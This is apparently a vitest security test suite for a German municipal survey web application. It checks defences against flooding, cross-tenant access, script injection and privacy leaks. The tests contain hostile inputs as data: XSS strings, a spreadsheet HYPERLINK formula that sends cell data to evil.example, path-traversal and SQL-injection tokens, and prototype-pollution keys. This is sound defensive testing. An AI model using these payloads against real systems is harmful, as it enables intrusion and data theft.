import { solveChallenge } from 'altcha-lib';
import { deriveKey } from 'altcha-lib/algorithms/sha';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestRuntime, type TestRuntime } from '../../../../tests/support/database.ts';
import { makeKommune, makePerson, type Person } from '../../../../tests/support/factories.ts';
import { TestClient } from '../../../../tests/support/http.ts';
import { createApp } from '../../app.ts';
import { responseLimit, resetResponseLimits } from '../../../services/answer-resident-survey.ts';

// The Außensicht (issue 17, decision 022) attacked from outside: a person on the internet who wants
// to flood or skew a Kommune's results or break the server, the Koordination of another Kommune,
// someone who wants to run script in a browser, and a privacy auditor (DSGVO). A passing test
// documents a guarantee; a failing one is a weakness, explained in its comment with the fix.

let runtime: TestRuntime;
let programmteam: Person;
let koordination: Person;
let lesende: Person;
let otherKoordination: Person;
let other: { id: string; slug: string };
let kommune: { id: string; slug: string };
let token: string;
let addressCounter = 0;

const evilName = 'Bösdorf <img src=x onerror=alert(1)>';
const evilQuestion = '</label><script>alert("frage")</script>';
const base = () => `/api/kommunen/${kommune.slug}/rounds/1/survey`;
const inDays = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);
const settings = {
  fields: ['6', '2'],
  openQuestions: [{ text: evilQuestion }],
  opensOn: inDays(-1),
  closesOn: inDays(30),
  retentionMonths: 6,
  controller: 'Gemeinde Bösdorf, "Integration" <b>Rathaus</b> 1',
};

/** A resident's phone with its own cookie jar and address. */
const resident = (address = `198.51.100.${(++addressCounter % 250) + 1}`) => new TestClient(runtime, address);

async function answer(client: TestClient, body: Record<string, unknown>, options: { token?: string } = {}) {
  const path = `/api/umfrage/${options.token ?? token}`;
  const issued = await client.post(`${path}/challenge`, {});
  if (issued.status !== 200) return issued;
  const solution = await solveChallenge({ challenge: issued.body.challenge, deriveKey });
  return client.post(`${path}/responses`, { language: 'de', open: [], groups: {}, ...body, challenge: issued.body.challenge, solution });
}

const rows = async (query: ReturnType<typeof sql>) => ((await runtime.services.db.execute(query)) as unknown as { rows: Record<string, unknown>[] }).rows;

beforeAll(async () => {
  runtime = await createTestRuntime();
  programmteam = await makePerson(runtime, { programme: 'programmteam' });
  kommune = await makeKommune(runtime, evilName, 'Gemeinde', { modules: [1, 2] });
  koordination = await makePerson(runtime, { kommune: { id: kommune.id, role: 'koordination' } });
  lesende = await makePerson(runtime, { kommune: { id: kommune.id, role: 'lesende' } });
  other = await makeKommune(runtime, 'Nachbarort', 'Gemeinde');
  otherKoordination = await makePerson(runtime, { kommune: { id: other.id, role: 'koordination' } });
  expect((await koordination.client.post(`/api/kommunen/${kommune.slug}/rounds`, { workedFieldKeys: ['1', '2', '6'] })).status).toBe(201);
  const created = await koordination.client.post(base(), { settings });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  const published = await koordination.client.post(`${base()}/publish`, { version: created.body.survey.version });
  expect(published.status, JSON.stringify(published.body)).toBe(200);
  token = published.body.survey.url.split('/umfrage/')[1];
});
afterAll(() => runtime?.close());

describe('(c) script in a resident’s or an employee’s browser', () => {
  it('the Kommune name, the open question and the controller are escaped on the public page', async () => {
    const page = await resident().get(`/umfrage/${token}`);
    expect(page.status).toBe(200);
    const body = page.body as string;
    expect(body).not.toContain('<img src=x');
    expect(body).not.toContain('<script>alert');
    expect(body).not.toContain('<b>Rathaus</b>');
    expect(body).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(body).toContain('&lt;/label&gt;&lt;script&gt;');
    // The page's own CSP forbids inline script anyway.
    expect(page.headers.get('content-security-policy')).toMatch(/script-src 'self'/);
  });

  it('an Anmerkung with a formula is neutralised in the CSV; XLSX stores it as text, not a formula', async () => {
    const phone = resident();
    const sent = await answer(phone, { answers: { '6.1': 'zu' }, open: ['=HYPERLINK("http://evil.example/?"&A1,"Klick")'] });
    expect(sent.status, JSON.stringify(sent.body)).toBe(201);
    const all = (await koordination.client.get(base())).body.openAnswers;
    const mine = all.find((entry: { text: string }) => entry.text.startsWith('=HYPERLINK'));
    expect((await koordination.client.post(`${base()}/open-answers/review`, { ids: [mine.id], review: 'freigegeben' })).status).toBe(200);
    const csv = (await koordination.client.get(`${base()}/responses/csv`)).body as string;
    expect(csv).toContain(`'=HYPERLINK`);
    expect(csv).not.toMatch(/(^|;|")=HYPERLINK/m);
    const xlsx = await runtime.app.request(`http://localhost:3000${base()}/responses/xlsx`, { headers: { cookie: koordination.client.cookieHeader, 'x-forwarded-for': '203.0.113.1' } });
    const { default: ExcelJS } = await import('exceljs');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await xlsx.arrayBuffer());
    const formulas: unknown[] = [];
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cell.type === ExcelJS.ValueType.Formula && formulas.push(cell.value)));
    expect(formulas).toEqual([]);
  });

  it('leading whitespace or a tab does not smuggle a formula past the CSV guard', async () => {
    const sent = await answer(resident(), { answers: { '6.2': 'zu' }, open: ['\t=1+1'] });
    expect([201, 422]).toContain(sent.status);
    const all = (await koordination.client.get(base())).body.openAnswers;
    const tab = all.find((entry: { text: string }) => entry.text.includes('=1+1'));
    if (tab) await koordination.client.post(`${base()}/open-answers/review`, { ids: [tab.id], review: 'freigegeben' });
    const csv = (await koordination.client.get(`${base()}/responses/csv`)).body as string;
    for (const cell of csv.split(/[;\r\n]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[\t ]*[=+\-@]\d/);
  });
});

describe('(a) flooding and skewing from the internet', () => {
  it('proof-of-work replay: the same solved challenge twice from the same device is a duplicate', async () => {
    const phone = resident();
    const path = `/api/umfrage/${token}`;
    const issued = await phone.post(`${path}/challenge`, {});
    const solution = await solveChallenge({ challenge: issued.body.challenge, deriveKey });
    const body = { language: 'de', open: [], groups: {}, answers: { '6.1': 'nicht-zu' }, challenge: issued.body.challenge, solution };
    expect((await phone.post(`${path}/responses`, body)).status).toBe(201);
    const again = await phone.post(`${path}/responses`, body);
    expect(again.status).toBe(409);
    expect(again.body.error.code).toBe('error.duplicate');
  });

  it('proof-of-work replay after clearing the cookie: the old challenge is bound to the old device and refused', async () => {
    const path = `/api/umfrage/${token}`;
    const phone = resident();
    const issued = await phone.post(`${path}/challenge`, {});
    const solution = await solveChallenge({ challenge: issued.body.challenge, deriveKey });
    const cleared = new TestClient(runtime, '198.51.100.250');
    await cleared.post(`${path}/challenge`, {}); // a fresh device cookie
    const replay = await cleared.post(`${path}/responses`, { language: 'de', answers: { '6.1': 'zu' }, challenge: issued.body.challenge, solution });
    expect(replay.status).toBe(403);
  });

  it('a forged device cookie cannot reuse another device’s solved challenge (the cookie is what is hashed)', async () => {
    const path = `/api/umfrage/${token}`;
    const bare = new TestClient(runtime, '198.51.100.249');
    const issued = await bare.post(`${path}/challenge`, {});
    const solution = await solveChallenge({ challenge: issued.body.challenge, deriveKey });
    const forged = await runtime.app.request(`http://localhost:3000${path}/responses`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', cookie: `wo_umfrage=${'A'.repeat(43)}`, 'x-forwarded-for': '198.51.100.249' },
      body: JSON.stringify({ language: 'de', answers: { '6.1': 'zu' }, challenge: issued.body.challenge, solution }),
    });
    expect(forged.status).toBe(403);
  });

  it('an expired challenge (issued 31 minutes ago) is refused', async () => {
    const path = `/api/umfrage/${token}`;
    const phone = resident();
    const realNow = runtime.services.now;
    runtime.services.now = () => new Date(Date.now() - 31 * 60_000);
    let issued;
    try {
      issued = await phone.post(`${path}/challenge`, {});
    } finally {
      runtime.services.now = realNow;
    }
    expect(issued.status).toBe(200);
    const solution = await solveChallenge({ challenge: issued.body.challenge, deriveKey });
    const late = await phone.post(`${path}/responses`, { language: 'de', answers: { '6.1': 'zu' }, challenge: issued.body.challenge, solution });
    expect(late.status).toBe(403);
    expect(late.body.error.code).toBe('error.challenge');
  });

  it('parameter tampering: another survey id, a longer expiry, an unknown answer value, prototype keys, a foreign group option — all refused, nothing stored', async () => {
    const count = async () => Number((await rows(sql`select count(*)::int as c from resident_response`))[0]!.c);
    const before = await count();
    const path = `/api/umfrage/${token}`;
    for (const tamper of [
      (c: any) => (c.parameters.data.survey = '00000000-0000-4000-8000-000000000000'),
      (c: any) => (c.parameters.expiresAt = c.parameters.expiresAt + 86_400_000),
      (c: any) => (c.parameters.algorithm = 'PBKDF2/SHA-256'),
      (c: any) => (c.signature = '00'),
    ]) {
      const phone = resident();
      const issued = await phone.post(`${path}/challenge`, {});
      const solution = await solveChallenge({ challenge: issued.body.challenge, deriveKey });
      tamper(issued.body.challenge);
      const sent = await phone.post(`${path}/responses`, { language: 'de', answers: { '6.1': 'zu' }, challenge: issued.body.challenge, solution });
      expect([400, 403]).toContain(sent.status);
    }
    for (const body of [
      { answers: { '6.1': 'voll-und-ganz' } },
      { answers: { constructor: 'zu', '6.1': 'zu' } },
      { answers: { '6.1': 'zu' }, groups: { alter: 'unter-0' } },
      { answers: { '6.1': 'zu' }, groups: { wohnort: 'geheim' } },
      { answers: { '6.1': 'zu' }, open: ['a', 'b', 'c', 'd'] },
      { answers: { '6.1': 'zu' }, language: 'ar' }, // not offered
      { answers: { '6.1': ['zu'] } },
    ]) {
      const sent = await answer(resident(), body);
      expect([400, 422], JSON.stringify(body)).toContain(sent.status);
      expect(sent.body.error.message).toBeTruthy();
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(await count()).toBe(before);
  });

  it('a __proto__ key in the answers pollutes nothing and is not stored', async () => {
    const sent = await answer(resident(), { answers: JSON.parse('{"__proto__": {"polluted": "ja"}, "6.2": "eher-nicht-zu"}') });
    // zod drops the key; the response counts with its one valid answer.
    expect([201, 400]).toContain(sent.status);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const stored = await rows(sql`select answers::text as answers from resident_response where answers::text like '%proto%' or answers::text like '%polluted%'`);
    expect(stored).toEqual([]);
  });

  it('a body over 1 MB is refused with 413 before it is read; a deeply nested one with 400, not a crash', async () => {
    const huge = await resident().request('POST', `/api/umfrage/${token}/responses`, JSON.stringify({ language: 'de', pad: 'x'.repeat(1_100_000) }));
    expect(huge.status).toBe(413);
    const nested = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    const deep = await resident().request('POST', `/api/umfrage/${token}/responses`, `{"language":"de","answers":${nested}}`);
    expect(deep.status).toBe(400);
    const deepObject = await resident().request('POST', `/api/umfrage/${token}/responses`, `{"language":"de","x":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}`);
    expect(deepObject.status).toBe(400);
  });

  it('an open answer holding a NUL character is refused in the resident’s language, not a 500', async () => {
    // PostgreSQL text cannot hold U+0000: without a check the insert fails and the resident gets the
    // generic 500 (and the server log an „Unerwarteter Fehler“ per request — a cheap way to fill logs).
    // Fixed on 2026-12-01 as suggested: checkResponse refuses (or strips) control characters in open answers (error.invalid).
    const sent = await answer(resident(), { answers: { '6.1': 'zu' }, open: ['Hallo\u0000Welt'] });
    expect(sent.status, JSON.stringify(sent.body)).not.toBe(500);
    expect([201, 400, 422]).toContain(sent.status);
  });

  it('odd languages in the URL: ../, very long, unicode, an array — German page, never an error', async () => {
    for (const query of ['sprache=../', 'sprache=..%2F..%2Fetc%2Fpasswd', `sprache=${'a'.repeat(5000)}`, 'sprache=%F0%9F%92%A9', 'sprache=ar&sprache=de', 'sprache=%00', 'sprache=__proto__']) {
      const page = await resident().get(`/umfrage/${token}?${query}`);
      expect(page.status, query).toBe(200);
      expect(page.body as string).toMatch(/<html lang="de" dir="ltr">/);
    }
    const huge = await resident().request('GET', `/umfrage/${token}`, undefined, { 'accept-language': Array.from({ length: 5000 }, (_, i) => `x${i};q=0.${i % 9}`).join(',') });
    expect(huge.status).toBe(200);
    const challenge = await resident().post(`/api/umfrage/${token}/challenge?sprache=${'a'.repeat(500)}`, {});
    expect(challenge.status).toBeLessThan(500);
  });

  it('odd tokens: too long, unicode, path traversal, SQL — 404 that says nothing, never a 500', async () => {
    for (const odd of ['a'.repeat(5000), '%C3%BC'.repeat(20), '..%2F..%2Fapi%2Fhealth', "x'%20or%201=1--aaaaaaaa", token.toUpperCase(), `${token}%00`]) {
      const page = await resident().get(`/umfrage/${odd}`);
      expect(page.status, odd.slice(0, 30)).toBe(404);
      const issued = await resident().post(`/api/umfrage/${odd}/challenge`, {});
      expect([400, 404], odd.slice(0, 30)).toContain(issued.status);
    }
  });

  it('with TRUST_PROXY off an invented X-Forwarded-For does not open a new address window', async () => {
    resetResponseLimits();
    const app = createApp({ services: runtime.services, auth: runtime.auth, session: runtime.session, trustProxy: false, webDir: null } as Parameters<typeof createApp>[0]);
    const env = { incoming: { socket: { remoteAddress: '192.0.2.77' } } };
    const post = (forwarded: string) =>
      app.request(`http://localhost:3000/api/umfrage/${token}/responses`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': forwarded }, body: '{"language":"de"}' }, env);
    for (let hit = 0; hit < responseLimit.count; hit++) await post(`10.0.${hit >> 8}.${hit & 255}`);
    const limited = await post('10.9.9.9');
    expect(limited.status).toBe(429);
    resetResponseLimits();
  });

  it('with one trusted proxy the client cannot choose its address by prepending X-Forwarded-For entries', async () => {
    resetResponseLimits();
    const post = (forwarded: string) => runtime.app.request(`http://localhost:3000/api/umfrage/${token}/responses`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': forwarded }, body: '{"language":"de"}' });
    for (let hit = 0; hit < responseLimit.count; hit++) await post(`10.1.${hit >> 8}.${hit & 255}, 192.0.2.78`);
    expect((await post('10.7.7.7, 192.0.2.78')).status).toBe(429);
    resetResponseLimits();
  });

  it('rotating addresses inside one IPv6 /64 shares one window', async () => {
    resetResponseLimits();
    const post = (forwarded: string) => runtime.app.request(`http://localhost:3000/api/umfrage/${token}/responses`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': forwarded }, body: '{"language":"de"}' });
    for (let hit = 0; hit < responseLimit.count; hit++) await post(`2001:db8:1:2:${hit.toString(16)}::1`);
    expect((await post('2001:db8:1:2:ffff:ffff:ffff:ffff')).status).toBe(429);
    expect((await post('2001:0db8:0001:0002::abcd')).status).toBe(429);
    resetResponseLimits();
  });

  it('the challenge endpoint has a limit per address too (every call mints a device token and an HMAC)', async () => {
    // Only `/responses` counts against the address window; `/challenge` is unlimited, so one client can
    // ask for challenges (a database read each, an HMAC and a Set-Cookie) as fast as it likes.
    // Fixed on 2026-12-01 as suggested: count `/challenge` against the same (or a separate, larger) address window.
    resetResponseLimits();
    const post = () => runtime.app.request(`http://localhost:3000/api/umfrage/${token}/challenge`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': '192.0.2.79' }, body: '{}' });
    let refused = false;
    for (let hit = 0; hit < 3 * responseLimit.count && !refused; hit++) refused = (await post()).status === 429;
    resetResponseLimits();
    expect(refused).toBe(true);
  });

  it('the proof of work asks for real work: thousands of tries per response, not a few', async () => {
    // cost 8 with prefix "000" means about 4,096 tries of 8 SHA-256 rounds each (about 0.1 s on a Node
    // core). Counted in tries, not timed: one challenge can be lucky (that made a timed check fail on
    // CI), so the mean over 20 fresh challenges is taken; it falls below 1,000 only if the work became
    // trivial (the chance for the real setting is negligible). The address window and one response per
    // device remain the main barrier; the exclusion is the fallback.
    const counters: number[] = [];
    for (let index = 0; index < 20; index++) {
      const issued = await resident(`192.0.2.${100 + index}`).post(`/api/umfrage/${token}/challenge`, {});
      const solution = await solveChallenge({ challenge: issued.body.challenge, deriveKey });
      counters.push(solution!.counter + 1);
    }
    const mean = counters.reduce((sum, tries) => sum + tries, 0) / counters.length;
    expect(mean).toBeGreaterThan(1000);
  });

  it('HTTP methods other than POST on the public API are 404, and a cross-site POST is refused (CSRF)', async () => {
    for (const method of ['GET', 'PUT', 'DELETE', 'PATCH']) {
      const sent = await resident().request(method, `/api/umfrage/${token}/responses`, method === 'GET' || method === 'DELETE' ? undefined : {});
      expect([404, 405], method).toContain(sent.status);
    }
    const crossSite = await resident().request('POST', `/api/umfrage/${token}/challenge`, {}, { origin: 'https://evil.example' });
    expect(crossSite.status).toBe(403);
    expect(crossSite.headers.get('set-cookie')).toBeNull();
  });

  it('a 500 reveals nothing: no stack, no SQL, no parameters', async () => {
    const realNow = runtime.services.now;
    runtime.services.now = () => {
      throw new Error('geheimnis select * from resident_response where device_hash = $1');
    };
    try {
      const failed = await resident().post(`/api/umfrage/${token}/challenge`, {});
      expect(failed.status).toBe(500);
      expect(JSON.stringify(failed.body)).not.toMatch(/geheimnis|select|resident_response|at .*\.ts/);
    } finally {
      runtime.services.now = realNow;
    }
    // The log names the route and the failed statement's text, never its parameters (the answer).
    expect(runtime.logs.join('\n')).not.toContain('Hallo');
  });
});

describe('(b) the Koordination of another Kommune', () => {
  it('reads, changes, exports, excludes, reviews, deletes nothing of this Kommune’s survey, nor its report', async () => {
    const other = otherKoordination.client;
    expect((await other.get(base())).status).toBe(403);
    expect((await other.put(base(), { version: 1, settings })).status).toBe(403);
    expect((await other.post(`${base()}/publish`, { version: 1 })).status).toBe(403);
    expect((await other.get(`${base()}/responses/csv`)).status).toBe(403);
    expect((await other.get(`${base()}/responses/xlsx`)).status).toBe(403);
    expect((await other.get(`${base()}/poster.pdf`)).status).toBe(403);
    expect((await other.post(`${base()}/exclusions`, { fromAt: new Date(0).toISOString(), toAt: new Date().toISOString(), reason: 'Fremde Kommune schließt aus' })).status).toBe(403);
    const ids = (await koordination.client.get(base())).body.openAnswers.map((entry: { id: string }) => entry.id);
    expect((await other.post(`${base()}/open-answers/review`, { ids, review: 'verworfen' })).status).toBe(403);
    expect((await other.get(`/api/kommunen/${kommune.slug}/report?round=1&format=json`)).status).toBe(403);
    expect((await other.get('/api/programme/survey-responses/csv')).status).toBe(403);
    expect((await other.put('/api/survey-texts/de/page.intro', { text: 'übernommen' })).status).toBe(403);
    expect((await other.delete(base())).status).toBe(403);
    expect((await koordination.client.get(base())).body.survey.status).toBe('veroeffentlicht');
  });

  it('cannot undo this Kommune’s exclusion through a survey of its own (the id is looked up in the survey of the path)', async () => {
    const made = await koordination.client.post(`${base()}/exclusions`, { fromAt: '2026-01-01T00:00:00Z', toAt: '2026-01-01T01:00:00Z', reason: 'Ein leerer Zeitraum zum Prüfen' });
    expect(made.status).toBe(201);
    const own = `/api/kommunen/${other.slug}/rounds`;
    expect((await otherKoordination.client.post(own, { workedFieldKeys: ['1'] })).status).toBe(201);
    expect((await otherKoordination.client.post(`${own}/1/survey`, { settings: { ...settings, fields: ['1'] } })).status).toBe(201);
    expect((await otherKoordination.client.delete(`${own}/1/survey/exclusions/${made.body.id}`)).status).toBe(404);
    expect((await otherKoordination.client.delete(`${base()}/exclusions/${made.body.id}`)).status).toBe(403);
    expect((await koordination.client.get(base())).body.exclusions.map((entry: { id: string }) => entry.id)).toContain(made.body.id);
  });
});

describe('(d) privacy (DSGVO)', () => {
  it('no IP address is stored in any survey table, the audit log or the server log', async () => {
    const marker = '203.0.113.199';
    const sent = await answer(new TestClient(runtime, marker), { answers: { '6.1': 'eher-zu' }, open: ['Adresse?'] });
    expect(sent.status).toBe(201);
    for (const table of ['resident_survey', 'resident_response', 'resident_open_answer', 'resident_exclusion', 'audit_event']) {
      const dump = JSON.stringify(await rows(sql.raw(`select * from "${table}"`)));
      expect(dump, table).not.toContain(marker);
      expect(dump, table).not.toContain('203.0.113');
    }
    expect(runtime.logs.join('\n')).not.toContain(marker);
    // Only the minute of arrival, and the device as a hash (never the cookie's value).
    const stored = await rows(sql`select received_at, device_hash from resident_response order by received_at desc limit 1`);
    expect(new Date(stored[0]!.received_at as string).getUTCSeconds()).toBe(0);
    expect(String(stored[0]!.device_hash)).toMatch(/^[0-9a-f]{64}$/);
  });

  it('the device cookie: HttpOnly, SameSite=Strict, only this survey’s API path, ends a day after the last day', async () => {
    const issued = await resident().post(`/api/umfrage/${token}/challenge`, {});
    const cookie = issued.headers.get('set-cookie')!;
    expect(cookie).toMatch(/^wo_umfrage=[A-Za-z0-9_-]{43};/);
    expect(cookie).toMatch(/HttpOnly/i);
    expect(cookie).toMatch(/SameSite=Strict/i);
    expect(cookie).toMatch(new RegExp(`Path=/api/umfrage/${token}(;|$)`));
    const maxAge = Number(/Max-Age=(\d+)/i.exec(cookie)![1]);
    expect(maxAge).toBeLessThanOrEqual(32 * 86_400);
    expect(cookie).not.toMatch(/Domain=/i);
    expect(issued.headers.get('cache-control')).toBe('no-store');
    // The page itself sets no cookie.
    expect((await resident().get(`/umfrage/${token}`)).headers.get('set-cookie')).toBeNull();
  });

  it('below 10 counted responses neither the survey view, the report nor the page shows any result', async () => {
    const results = (await lesende.client.get(base())).body.results;
    expect(results.shown).toBe(false);
    expect(Object.keys(results).sort()).toEqual(['minimum', 'responses', 'shown']);
    const report = await lesende.client.get(`/api/kommunen/${kommune.slug}/report?round=1&format=json`);
    expect(report.status).toBe(200);
    const section = JSON.stringify(report.body.report.sections.find((entry: { id: string }) => entry.id === 'fragebogen'));
    expect(section).not.toMatch(/Innensicht und Außensicht je Handlungsfeld/);
  });

  it('unreleased Anmerkungen reach neither the Lesende, the report nor the exports', async () => {
    const secret = 'Unveröffentlichte Sorge über den Nachbarn Herrn M.';
    expect((await answer(resident(), { answers: { '2.1': 'zu' }, open: [secret] })).status).toBe(201);
    expect(JSON.stringify((await lesende.client.get(base())).body)).not.toContain(secret);
    expect(JSON.stringify((await lesende.client.get(`/api/kommunen/${kommune.slug}/report?round=1&format=json`)).body)).not.toContain(secret);
    expect((await koordination.client.get(`${base()}/responses/csv`)).body as string).not.toContain(secret);
    expect((await programmteam.client.get('/api/programme/survey-responses/csv')).body as string).not.toContain(secret);
    expect((await resident().get(`/umfrage/${token}`)).body as string).not.toContain(secret);
  });

  it('a single response cannot be read back by difference through an exclusion of its minute', async () => {
    // Bring the survey to 11 counted responses, then exclude just the minute of the newest one and
    // compare: the results before (11) and after (10) are both shown, and their difference is the
    // excluded resident's complete answer (and language). The per-minute view tells the Koordination
    // which minute holds exactly one response. Exclusions cannot be undone, but one is enough.
    // Fixed on 2026-12-01 as suggested: refuse an exclusion that would change the counted responses by fewer than `minimumResponses`
    // while results stay shown (or hide results until the excluded set has at least 10 too), and show
    // the language counts only from 10 per language as well.
    const counted = async () => (await koordination.client.get(base())).body.survey.responses.counted as number;
    let index = 0;
    while ((await counted()) < 10) {
      expect((await answer(resident(`198.51.101.${++index}`), { answers: { '6.1': 'zu', '2.1': 'zu' } })).status).toBe(201);
    }
    // Wait for the next minute, so the target response has a minute of its own.
    const minuteNow = () => Math.floor(Date.now() / 60_000);
    const startMinute = minuteNow();
    while (minuteNow() === startMinute) await new Promise((resolve) => setTimeout(resolve, 250));
    const target = await answer(resident('198.51.101.200'), { answers: { '6.1': 'nicht-zu', '2.1': 'nicht-zu' } });
    expect(target.status).toBe(201);
    const before = (await koordination.client.get(base())).body.results;
    expect(before.shown).toBe(true);
    const minute = new Date(minuteNow() * 60_000);
    const excluded = await koordination.client.post(`${base()}/exclusions`, { fromAt: minute.toISOString(), toAt: new Date(minute.getTime() + 60_000).toISOString(), reason: 'Nur diese eine Antwort, um sie zu sehen' });
    // Fixed: a window with 1 to 9 responses is refused, and results use whole steps of ten responses.
    expect(excluded.status).toBe(422);
    expect(excluded.body.error.code).toBe('survey-exclusion-small');
    const after = (await koordination.client.get(base())).body.results;
    expect(after).toEqual(before);
    expect(before.responses % 10).toBe(0);
  });

  it('a language with fewer than 10 responses is not named with its count in the results', async () => {
    // results.languages lists every language with its exact count, e.g. { language: 'ar', responses: 1 }
    // (and the report writes „in zwei Sprachen (Deutsch und Arabisch)“): in a small Gemeinde a single
    // Arabic or Persian response points to a person or family, and with the difference over time to
    // their answers. Fix: languages with fewer than `minimumResponses` responses only as „weitere“.
    const arabic = await programmteam.client.get('/api/survey-texts/ar');
    await programmteam.client.post('/api/survey-texts/ar/review', { keys: arabic.body.texts.map((text: { key: string }) => text.key) });
    expect((await answer(resident('198.51.102.1'), { language: 'ar', answers: { '6.1': 'zu' } })).status).toBe(201);
    const results = (await lesende.client.get(base())).body.results;
    expect(results.shown).toBe(true);
    const small = (results.languages as { language: string; responses: number }[]).filter((entry) => entry.responses < 10);
    expect(small).toEqual([]);
  });

  it('an edited translation cannot inject markup into the page, its attributes or its refusals (Programmteam text)', async () => {
    const evil = 'Bitte beantworten Sie eine Aussage." autofocus onfocus="alert(1)';
    expect((await programmteam.client.put('/api/survey-texts/de/error.empty', { text: evil })).status).toBe(200);
    const intro = await programmteam.client.put('/api/survey-texts/de/page.intro', { text: 'Willkommen <script>alert("intro")</script>' });
    // Markup in a survey text is refused at the field; a quote is allowed and escaped in attributes.
    expect(intro.status).toBe(422);
    expect(intro.body.error.code).toBe('survey-text-invalid');
    await programmteam.client.post('/api/survey-texts/de/review', { keys: ['error.empty', 'page.intro'] });
    const arabic = await programmteam.client.get('/api/survey-texts/ar');
    await programmteam.client.post('/api/survey-texts/ar/review', { keys: arabic.body.texts.map((text: { key: string }) => text.key) });
    const body = (await resident().get(`/umfrage/${token}`)).body as string;
    expect(body).not.toContain('<script>alert("intro")');
    expect(body).not.toContain('" autofocus onfocus="');
    expect(body).toContain('&quot; autofocus onfocus=&quot;');
    const refused = await answer(resident(), { answers: {} });
    expect(refused.headers.get('content-type')).toMatch(/application\/json/);
  });
});
